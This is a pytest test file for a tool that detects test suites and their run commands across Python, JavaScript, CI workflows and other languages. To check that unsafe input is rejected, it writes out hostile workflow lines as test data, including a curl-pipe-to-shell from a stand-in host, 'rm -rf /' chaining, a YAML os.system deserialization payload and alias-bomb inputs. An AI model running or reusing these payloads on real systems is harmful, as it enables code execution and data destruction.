"""Discovery of test suites in small trees: command, runner, directory, and reason."""

import json
import time

import pytest

from patchwright.resolver.settings.settings import RepoConfig
from patchwright.resolver.suites.discovery import detect_suites
from patchwright.resolver.suites.suite import Suite, Suites

ASSERTION = "import unittest\n\n\nclass A(unittest.TestCase):\n    pass\n"


def detect(tree: dict[str, str], config: RepoConfig | None = None) -> Suites:
    return detect_suites(tuple(sorted(tree)), tree, config or RepoConfig())


def detect_primary(tree: dict[str, str], config: RepoConfig | None = None) -> tuple[str, str, str]:
    suite = detect(tree, config).primary
    assert suite is not None
    return suite.command, suite.runner, suite.command_reason


def package(**scripts: str) -> str:
    return json.dumps({"scripts": {name.replace("_", ":"): text for name, text in scripts.items()}})


# --- Python ---------------------------------------------------------------------------------------------------


def test_test_files_are_run_by_pytest() -> None:
    assert detect_primary({"tests/test_a.py": "def test(): pass", "b_test.py": ""}) == (
        "python3 -m pytest",
        "pytest",
        "No test command is configured, and b_test.py and 1 more can be run by pytest.",
    )


def test_modules_named_tests_are_run_by_name_except_in_a_django_project() -> None:
    tree = {"one/tests.py": "", "one/code.py": "", "two parts/tests.py": ""}
    assert detect_primary(tree)[0] == "python3 -m pytest one/tests.py 'two parts/tests.py'"
    assert detect({**tree, "manage.py": ""}).primary is None
    assert detect_primary({"tests/test.py": ""})[0] == "python3 -m pytest tests/test.py"
    assert detect({"package/test.py": "class TestClient:\n    pass\n"}).primary is None
    assert detect_primary({**tree, "one/test_code.py": ""})[0] == "python3 -m pytest"


SCRIPT = ASSERTION + "from code2048 import play\n"


@pytest.mark.parametrize(
    ("tree", "command"),
    [
        ({"p/test.py": SCRIPT, "p/__init__.py": ""}, "PYTHONPATH=p python3 -m pytest p/test.py"),
        ({"p/test_a.py": SCRIPT, "p/__init__.py": ""}, "PYTHONPATH=p python3 -m unittest"),
        ({"p q/test.py": SCRIPT, "p q/__init__.py": ""}, "PYTHONPATH='p q' python3 -m pytest 'p q/test.py'"),
        # pytest adds the directory, because it is no package.
        ({"p/test.py": SCRIPT}, "python3 -m pytest p/test.py"),
        # The name may mean an installed package.
        ({"p/test.py": SCRIPT, "p/__init__.py": "", "setup.cfg": "code2048"}, "python3 -m pytest p/test.py"),
        ({"p/test.py": SCRIPT + "import p\n", "p/__init__.py": ""}, "python3 -m pytest p/test.py"),
        # These modules would replace those of Python, or another module of the project.
        ({"p/test.py": SCRIPT, "p/__init__.py": "", "p/json.py": ""}, "python3 -m pytest p/test.py"),
        ({"p/test.py": SCRIPT, "p/__init__.py": "", "code2048.py": ""}, "python3 -m pytest p/test.py"),
    ],
)
def test_tests_in_a_package_may_import_their_neighbors(tree: dict[str, str], command: str) -> None:
    directory = "p q" if "p q/test.py" in tree else "p"
    assert detect_primary({f"{directory}/code2048.py": "", **tree})[0] == command


@pytest.mark.parametrize(
    ("tree", "command"),
    [
        ({"tests/test_a.py": ASSERTION}, "python3 -m unittest discover -s tests"),
        ({"tests/test_a.py": ASSERTION, "tests/__init__.py": ""}, "python3 -m unittest"),
        ({"test_a.py": ASSERTION}, "python3 -m unittest"),
        (
            {"src/a.py": "", "tests/test_a.py": ASSERTION},
            "PYTHONPATH=src python3 -m unittest discover -s tests",
        ),
        ({"one/test_a.py": ASSERTION, "two/test_b.py": ASSERTION}, "python3 -m pytest"),
        ({"tests/a_test.py": ASSERTION}, "python3 -m pytest"),
        ({"tests/test_a.py": ASSERTION, "tests/conftest.py": ""}, "python3 -m pytest"),
        ({"tests/test_a.py": ASSERTION, "requirements-dev.txt": "pytest==8"}, "python3 -m pytest"),
        ({"tests/test_a.py": ASSERTION + "import pytest\n"}, "python3 -m pytest"),
    ],
)
def test_projects_with_unittest_need_no_pytest(tree: dict[str, str], command: str) -> None:
    assert detect_primary(tree)[0] == command


@pytest.mark.parametrize(
    ("tree", "command", "where"),
    [
        (
            {
                "tox.ini": "[testenv]\ncommands =\n    flake8 x\n    - {envpython} -m pytest --cov=x \\\n"
                "      {posargs:tests}\n"
            },
            "python3 -m pytest tests",
            "The `[testenv]` of tox.ini",
        ),
        (
            {"tox.ini": "[testenv]\ncommands = coverage run -p -m unittest discover\n"},
            "python3 -m unittest discover",
            "The `[testenv]` of tox.ini",
        ),
        (
            {
                "pyproject.toml": "[tool.tox]\nlegacy_tox_ini = '''\n[testenv]\ncommands=pytest -n auto a\n'''\n"
            },
            "python3 -m pytest a",
            "The `[testenv]` of pyproject.toml",
        ),
        (
            {"pyproject.toml": "[tool.tox.env_run_base]\ncommands = [['ruff', 'x'], ['pytest', '-q']]\n"},
            "python3 -m pytest -q",
            "The `env_run_base` of tox in pyproject.toml",
        ),
        (
            {
                "noxfile.py": "import nox\n@nox.session\ndef lint(s): s.run('ruff')\n\n@nox.session\n"
                "def tests(s):\n    s.install('.')\n    s.run('pytest', '-x', *s.posargs)\n"
            },
            "python3 -m pytest -x",
            "The session `tests` of noxfile.py",
        ),
        (
            {"Makefile": "TESTS=1\ntest: lint ## run\n\t@poetry run pytest -q tests\nlint:\n\truff x\n"},
            "python3 -m pytest -q tests",
            "The target `test` of the Makefile",
        ),
    ],
)
def test_commands_of_tox_nox_and_make_run_without_them(tree, command, where) -> None:
    suite = detect(tree | {"tests/test_a.py": ""}).primary
    assert suite is not None and (suite.command, suite.command_reason) == (command, f"{where} runs it.")


# --- CI workflows -----------------------------------------------------------------------------------------------

WORKFLOW = """
on: push
jobs:
  lint: {steps: [{run: ruff check}]}
  test:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - run: pip install pytest
      - name: Run the tests
        run: |
          python -m pip install -e .
          %s
"""


def test_a_simple_workflow_command_is_used_and_its_step_is_named() -> None:
    tree = {".github/workflows/ci.yml": WORKFLOW % "uv run --frozen pytest tests/unit", "tests/test_a.py": ""}
    assert detect_primary(tree) == (
        "python3 -m pytest tests/unit",
        "pytest",
        ".github/workflows/ci.yml (step “Run the tests” of job test) runs it.",
    )


@pytest.mark.parametrize(
    "line",
    [
        "pytest $(cat arguments)",
        "pytest ${{ matrix.arguments }}",
        "curl https://evil.test/pytest | sh",
        "pytest > log",
        "echo pytest",
        "pytest; rm -rf /",
        "pytest & true",
    ],
)
def test_complex_workflow_commands_are_ignored(line: str) -> None:
    tree = {".github/workflows/ci.yml": WORKFLOW % line, "tests/test_a.py": "def test(): pass"}
    assert detect_primary(tree)[2].startswith("No test command is configured")


def test_a_workflows_working_directory_is_used() -> None:
    steps = "jobs: {a: {defaults: {run: {working-directory: ./web/}}, steps: [{run: npx mocha --exit}]}}"
    suites = detect({".github/workflows/ci.yaml": steps, "web/package.json": "{}", "a.py": ""})
    assert suites.all == (
        Suite(
            command="npx mocha --exit",
            runner="mocha",
            command_reason=".github/workflows/ci.yaml (step 1 of job a) runs it.",
            directory="web",
            suffixes=suites.all[0].suffixes,
            language="javascript",
        ),
    )


@pytest.mark.parametrize(
    "text",
    [
        "a: &a [x, x]\nb: &b [*a, *a]\nc: &c [*b, *b]\njobs: *c",
        "jobs: " + "[" * 20_000,
        "jobs: {a: {steps: [{run: 3}, 4, {run: [pytest]}, {run: pytest, working-directory: ../x}]}}",
        "jobs: {a: 1, b: {steps: {}}, c: null}",
        "- a\n- b",
        "!!python/object/apply:os.system ['touch /tmp/owned']",
        "jobs: 2001-99-99",
        "\x00",
        "&a [*a]",
        "x: " + "y" * 200_000,
        "jobs: &j {a: {steps: &s [{run: true}, *s, *j]}}",
    ],
)
def test_a_hostile_workflow_is_ignored_fast(text: str) -> None:
    start = time.process_time()
    assert detect({".github/workflows/ci.yml": text}) == Suites()
    assert time.process_time() - start < 2


# --- JavaScript -----------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("scripts", "command", "kind"),
    [
        ({"test": "jest --ci"}, "npm test", "jest"),
        ({"test": "tsc && NODE_ENV=test vitest run"}, "npm test", "vitest"),
        ({"test": "nyc --silent mocha -r ts-node/register"}, "npm test", "mocha"),
        ({"test": "mocha && eslint ."}, "npx mocha", "mocha"),
        ({"test": "eslint . && A=1 mocha --exit"}, "A=1 npx mocha --exit", "mocha"),
        ({"test": "mocha -R tap"}, "npx mocha -R tap", "mocha"),
        ({"test": "npx jest", "pretest": "npm run lint"}, "npx jest", "jest"),
        ({"test": "jest", "pretest": "tsc -p ."}, "npm test", "jest"),
        ({"test": "NODE_OPTIONS='--a --b' jest"}, "npm test", "jest"),
        ({"test": "node --expose-gc node_modules/.bin/jest --ci"}, "npm test", "jest"),
        ({"test": "xo && node --test"}, "node --test", "node"),
        (
            {"test": "npm run lint && npm run test:js", "lint": "eslint", "test:js": "tap"},
            "npm run test:js",
            "tap",
        ),
        ({"test": "run-s lint unit", "lint": "eslint", "unit": "jest"}, "npm run unit", "jest"),
        ({"test": "node --test 'test/**/*.js'"}, "node --test 'test/**/*.js'", "node"),
        ({"test": "./run-tests.sh"}, "npm test", "none"),
        ({"test": "tape test/*.js | tap-spec"}, "npx tape test/*.js", "tape"),
        ({"test": "tap test/*.js | tap-spec"}, "npx tap test/*.js", "tap"),
        ({"test": "jest | tee log"}, "npm test", "none"),
        ({"test": "jest a && jest b"}, "npm test", "none"),
        ({"test": "npm run test"}, "npm test", "none"),
        (
            {"test": 'echo "Error: no test specified" && exit 1', "test_unit": "jest"},
            "npm run test:unit",
            "jest",
        ),
    ],
)
def test_the_test_script_is_followed_to_its_runner(scripts, command, kind) -> None:
    assert detect_primary({"package.json": package(**scripts)})[:2] == (command, kind)


@pytest.mark.parametrize(
    ("scripts", "command", "kind"),
    [
        ({"test": "node test"}, "node test", "tape"),
        (
            {"test": "npm run lint && nyc node test/index.js", "lint": "eslint"},
            "npx nyc node test/index.js",
            "tape",
        ),
        ({"test": "node test && tape spec"}, "npm test", "none"),
        ({"test": "node -e 1"}, "npm test", "none"),
    ],
)
def test_a_file_that_node_starts_prints_the_report_of_tape(scripts, command, kind) -> None:
    manifest = {"scripts": scripts, "devDependencies": {"tape": "^5"}}
    assert detect_primary({"package.json": json.dumps(manifest)})[:2] == (command, kind)
    if kind == "tape":
        assert detect_primary({"package.json": package(**scripts)})[1] == "none"


def test_the_lock_file_decides_the_package_manager() -> None:
    assert detect_primary({"package.json": package(test="jest"), "yarn.lock": ""})[0] == "yarn test"
    assert (
        detect_primary({"package.json": package(test_unit="jest"), "pnpm-lock.yaml": ""})[0]
        == "pnpm run test:unit"
    )


def test_without_a_script_the_runner_in_the_dependencies_is_used() -> None:
    manifest = json.dumps({"devDependencies": {"vitest": "^3"}})
    assert detect_primary({"package.json": manifest}) == (
        "npx vitest run",
        "vitest",
        "package.json depends on vitest and has no test script.",
    )
    assert detect_primary({"package.json": "{}", "test/a.js": ""})[:2] == ("node --test", "node")
    assert detect({"package.json": "{}", "index.js": ""}) == Suites()


@pytest.mark.parametrize(
    "manifest",
    ["[1]", '{"scripts": ["jest"]}', '{"scripts": {"test": 3}}', "{", "[" * 100_000, '{"a":' * 100_000],
)
def test_a_hostile_package_json_is_no_error(manifest: str) -> None:
    assert detect({"package.json": manifest}) == Suites()


# --- other languages
# ------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("tree", "command", "kind"),
    [
        ({"go.mod": "module x", "a/a_test.go": ""}, "go test ./...", "go"),
        ({"Cargo.toml": '[package]\nname = "x"', "src/lib.rs": ""}, "cargo test", "cargo"),
        (
            {"Cargo.toml": "[workspace]", "a/Cargo.toml": "", "a/src/lib.rs": ""},
            "cargo test --workspace",
            "cargo",
        ),
        ({"pom.xml": "", "web/pom.xml": ""}, "mvn test", "maven"),
        ({"pom.xml": "", "mvnw": ""}, "sh ./mvnw test", "maven"),
        (
            {"settings.gradle.kts": "", "app/build.gradle.kts": "", "gradlew": ""},
            "sh ./gradlew test",
            "gradle",
        ),
        ({"Gemfile": "", "spec/a_spec.rb": ""}, "bundle exec rspec", "rspec"),
        ({"spec/a_spec.rb": "", "test/a_test.rb": ""}, "rspec", "rspec"),
        ({"Rakefile": "Rake::TestTask.new", "test/a_test.rb": ""}, "rake test", "minitest"),
        ({"bin/rails": "", "Gemfile": "", "test/models/a_test.rb": ""}, "bin/rails test", "minitest"),
        ({"Makefile": ".PHONY: all test\nall: x\ntest: all\n\t./x --self-test\n"}, "make test", "none"),
        ({"GNUmakefile": "check :\n\tctest\n"}, "make check", "none"),
    ],
)
def test_each_language_has_its_command(tree, command, kind) -> None:
    suites = detect(tree)
    assert [(suite.command, suite.runner, suite.directory) for suite in suites.all] == [(command, kind, "")]


@pytest.mark.parametrize(
    "tree",
    [
        {},
        {"README.md": "pytest", "calc.py": "", "tests/data.txt": "", "conftest.py": ""},
        {"go.mod": "module x", "a.go": ""},
        {"Makefile": "build:\n\tcc\nTEST := 1\n"},
        {
            "node_modules/a/package.json": package(test="jest"),
            "vendor/b/go.mod": "",
            "vendor/b/b_test.go": "",
        },
        {"Gemfile": "", "spec/helper.rb": ""},
    ],
)
def test_no_suite_is_found_without_tests(tree) -> None:
    assert detect(tree) == Suites()
